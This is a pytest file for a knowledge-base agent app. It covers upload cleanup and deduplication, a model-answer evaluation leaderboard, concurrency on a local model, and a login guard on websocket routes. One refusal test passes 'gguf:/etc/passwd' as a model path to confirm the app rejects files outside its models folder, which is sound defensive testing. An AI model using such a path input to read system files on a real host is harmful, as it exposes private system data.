    uploads = api_app.settings.store.data_dir / "uploads"
    stored = [p.name for p in uploads.iterdir()]
    assert stored == ["bike .racḱ notes.md"]
    hits = client.predict("covered bike rack library", 1, "", api_name="/search")
    assert Path(hits[0]["source"]).parent == uploads.resolve()


def test_api_upload_keeps_no_file_that_was_not_ingested(client: Client, api_app: RunningApp, tmp_path: Path) -> None:
    """Uploads that ingest refuses (their type) or can't read are deleted from DATA_DIR/uploads after the ingest;
    the ingested one in the same batch stays."""
    import zipfile

    (tmp_path / "setup.exe").write_bytes(b"MZ\x90\x00" + bytes(200))
    with zipfile.ZipFile(tmp_path / "minutes.zip", "w") as archive:
        archive.writestr("minutes.md", "# Minutes\n\nThe board met on Tuesday.\n")
    (tmp_path / "scan.pdf").write_bytes(b"%PDF-1.7\n1 0 obj <<\n not a real pdf")
    (tmp_path / "blank.md").write_bytes(b"")
    (tmp_path / "moorings.md").write_text("# Moorings\n\nVisitor moorings on the east pontoon cost 9 euros a night.\n")
    names = ["setup.exe", "minutes.zip", "scan.pdf", "blank.md", "moorings.md"]
    result = client.predict([handle_file(str(tmp_path / n)) for n in names], api_name="/ingest_files")
    assert "1 added" in result[0] and "4 failed" in result[0], result[0]
    uploads = api_app.settings.store.data_dir / "uploads"
    kept = {p.name for p in uploads.iterdir()}
    assert "moorings.md" in kept and not {"setup.exe", "minutes.zip", "scan.pdf", "blank.md"} & kept, kept
    recorded = {Path(s["source"]).name for s in client.predict(api_name="/list_sources")}
    assert {p.name for p in uploads.iterdir()} <= recorded  # every file kept backs a source


def test_api_same_bytes_under_two_names_is_one_file(client: Client, api_app: RunningApp, tmp_path: Path) -> None:
    """The same bytes uploaded under another name (later, or in the same batch) reuse the stored file: one
    source, and the report says which one."""
    text = "# Lighthouse\n\nThe lighthouse keeper winds the clock every Sunday at noon.\n"
    for name in ("lighthouse.md", "lighthouse copy.md", "keeper.txt"):
        (tmp_path / name).write_text(text)
    first = client.predict([handle_file(str(tmp_path / "lighthouse.md"))], api_name="/ingest_files")
    assert "1 added" in first[0]
    again = client.predict(
        [handle_file(str(tmp_path / "lighthouse copy.md")), handle_file(str(tmp_path / "keeper.txt"))],
        api_name="/ingest_files",
    )
    assert "0 added" in again[0] and "same bytes as" in again[0] and "lighthouse.md" in again[0], again[0]
    uploads = api_app.settings.store.data_dir / "uploads"
    copies = [p.name for p in uploads.iterdir() if p.read_text(errors="replace") == text]
    assert copies == ["lighthouse.md"]
    sources = [s["source"] for s in client.predict(api_name="/list_sources") if "lighthouse" in s["source"]]
    assert len(sources) == 1


def test_api_upload_whose_ingest_fails_leaves_no_file(
    client: Client, api_app: RunningApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("the store went away")

    monkeypatch.setattr(api_app.parts, "ingest", broken)
    (tmp_path / "tides.md").write_text("# Tides\n\nHigh tide at the harbour mouth comes at 14:12 today.\n")
    with pytest.raises(AppError):
        client.predict([handle_file(str(tmp_path / "tides.md"))], api_name="/ingest_files")
    assert "tides.md" not in {p.name for p in (api_app.settings.store.data_dir / "uploads").iterdir()}


# ---- the answers evaluation in the app ---------------------------------------------------------------------

ANSWER_SET = [
    {"question": "When does the first ferry to Skerry Island leave?", "keywords": ["07:40"], "category": "ferry",
     "reference_answer": "At 07:40 from Pier 9."},
    {"question": "What do the cardamom buns at the harbour bakery cost?", "keywords": ["3.50"], "category": "bakery",
     "reference_answer": "3.50 each."},
    {"question": "What does a bench at the repair workshop cost per hour?", "keywords": ["4 euros"],
     "category": "workshop", "reference_answer": "4 euros per hour."},
    {"question": "Who won the regatta in 1987?", "category": "ferry", "answerable": False},
]  # fmt: skip


def _answer_set(folder: Path, questions: list[dict[str, Any]] = ANSWER_SET) -> Path:
    import json

    path = folder / "answers.jsonl"
    path.write_text("".join(json.dumps(q) + "\n" for q in questions), encoding="utf-8")
    return path


def _local_model(running: RunningApp) -> str:
    """A `gguf:` file in the models folder: the policy allows it, and it is a local model (one answer at a time);
    the scripted model answers for it."""
    models = running.settings.store.models_path
    models.mkdir(parents=True, exist_ok=True)
    (models / "ok.gguf").write_bytes(b"GGUF")
    return f"gguf:{models}/ok.gguf"


def test_answers_evaluation_shows_a_leaderboard_and_every_answer_for_two_models_and_leaves_no_threads(
    client: Client, api_app: RunningApp, tmp_path: Path
) -> None:
    local = _local_model(api_app)
    threads_before = api_app.parts.threads.list(1000)
    board, details = client.predict(
        None, handle_file(str(_answer_set(tmp_path))), ["openai:scripted", local], "", "all", 5, "hybrid", 0.2,
        api_name="/evaluate_answers",
    )  # fmt: skip
    leaderboard = board.partition("By category")[0]
    assert leaderboard.count("<tr><td>") == 2 and "<td>openai:scripted</td>" in leaderboard
    assert f"<td>{local}</td>" in leaderboard and 'class="metric good"' in leaderboard
    assert details.count('<details class="kb-answer"') == 2 * len(ANSWER_SET)
    assert details.count("<summary><b>openai:scripted</b> · ferry · When does the first ferry") == 1
    assert "07:40" in details and "ferries.md" in details and "✔ contains the answer" in details
    assert "✔ abstained (unanswerable)" in details  # nothing retrieved: the scripted model says so
    assert api_app.parts.threads.list(1000) == threads_before  # the evaluation's threads are gone


def test_answers_evaluation_refuses_models_the_app_does_not_offer_before_asking(
    api_app: RunningApp, tmp_path: Path
) -> None:
    svc = Services(api_app.parts, MODELS)
    handlers = evaluation_tab.EvaluationHandlers(svc, svc.default_choices(), api_app.settings)
    path, asked = str(_answer_set(tmp_path)), []
    for models, judge, why in ((["openai:scripted", "gguf:/etc/passwd"], "", "models folder"),
                               (["openai:scripted"], "anthropic:claude-3-5-haiku", "not offered"),
                               ([], "", "pick one or more models")):  # fmt: skip
        with pytest.warns(UserWarning, match=why):
            out = handlers.evaluate_answers(None, path, models, judge, "all", 5, "hybrid", 0.2, lambda *a, **k: None)
        assert out == (gr.skip(), gr.skip())
        with pytest.raises(UserError, match=why):
            svc.evaluate_answers(Path(path), models, judge, on_row=lambda *a: asked.append(a))
    assert asked == []


def test_answers_progress_names_the_model_its_count_and_running_accuracy(api_app: RunningApp, tmp_path: Path) -> None:
    svc = Services(api_app.parts, MODELS)
    handlers = evaluation_tab.EvaluationHandlers(svc, svc.default_choices(), api_app.settings)
    seen: list[str] = []
    board, details = handlers.evaluate_answers(
        None, str(_answer_set(tmp_path, ANSWER_SET[:2])), ["openai:scripted"], "", "1", 5, "hybrid", 0.2,
        lambda *a, desc="", **k: seen.append(desc),
    )  # fmt: skip
    assert seen == ["starting…", "openai:scripted: 1/2, 100% right", "openai:scripted: 2/2, 100% right"]
    assert details.count("<details") == 2 and "openai:scripted" in board
    with pytest.warns(UserWarning, match="a number or 'all'"):
        handlers.evaluate_answers(None, str(tmp_path / "answers.jsonl"), ["openai:scripted"], "", "x", 5, "", 0.2)


def test_chat_answers_while_an_answers_evaluation_runs_and_a_local_model_answers_one_at_a_time(
    tmp_path: Path, embedder: SentenceTransformerEmbedder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A slow evaluation on a local model: a chat on that model answers before the evaluation ends (it waits for
    the question in progress, not the run), and the model never streams two answers at once."""
    active, most = [0], [0]
    stream = CitingModel._stream

    def counted(self: Any, *args: Any, **kwargs: Any) -> Iterator[Any]:
        active[0] += 1
        most[0] = max(most[0], active[0])
        try:
            yield from stream(self, *args, **kwargs)
        finally:
            active[0] -= 1

    monkeypatch.setattr(CitingModel, "_stream", counted)
    settings = Settings(data_dir=tmp_path / "data", collection=f"t{uuid.uuid4().hex[:12]}", _env_file=None)
    with running_app(settings, embedder, delay_s=0.05, docs=[write_docs(tmp_path / "docs")]) as running:
        local = _local_model(running)
        client = Client(running.url, verbose=False, download_files=False)
        questions = [{**q, "category": f"c{n}"} for n, q in enumerate(ANSWER_SET[:3] * 3)]  # 9 slow answers
        job = client.submit(
            None, handle_file(str(_answer_set(tmp_path, questions))), [local], "", "all", 5, "hybrid", 0.2,
            api_name="/evaluate_answers",
        )  # fmt: skip
        deadline = time.time() + 60
        while most[0] == 0 and time.time() < deadline:  # the evaluation is answering
            time.sleep(0.05)
        started = time.perf_counter()
        answer = client.predict("What do the cardamom buns cost?", "", local, api_name="/ask")
        waited = time.perf_counter() - started
        assert "3.50" in answer["answer"] and not job.done(), f"the chat waited for the evaluation ({waited:.1f} s)"
        board, details = job.result(timeout=120)
    assert details.count("<details") == len(questions) and local in board
    assert most[0] == 1  # never two answers at once from the one local model


def test_warm_up_builds_the_default_agent_before_the_first_question(api_app: RunningApp) -> None:
    from kbagent.services.operations import Services

    svc = Services(api_app.parts, MODELS)
    assert svc._agents == {}
    svc.warm_up()
    defaults = svc.default_choices()
    assert list(svc._agents) == [
        (defaults.kb, defaults.model, defaults.k, defaults.mode)
    ]  # the first question finds it built


def test_routes_beside_the_ui_refuse_a_websocket_without_the_login() -> None:
    """MCP and the OpenAI API sit behind the app's login for every kind of connection, websockets included."""
    import asyncio

    from ui.server import LoginRequired

    reached: list[str] = []

    async def inner(scope: Any, receive: Any, send: Any) -> None:
        reached.append(scope["type"])

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    guarded = LoginRequired(inner, ("ada", "s3cret"))
    asyncio.run(guarded({"type": "websocket", "headers": []}, None, send))
    assert reached == [] and sent == [{"type": "websocket.close", "code": 1008}]
    token = [(b"authorization", b"Bearer ada:s3cret")]
    asyncio.run(guarded({"type": "websocket", "headers": token}, None, send))
    assert reached == ["websocket"]
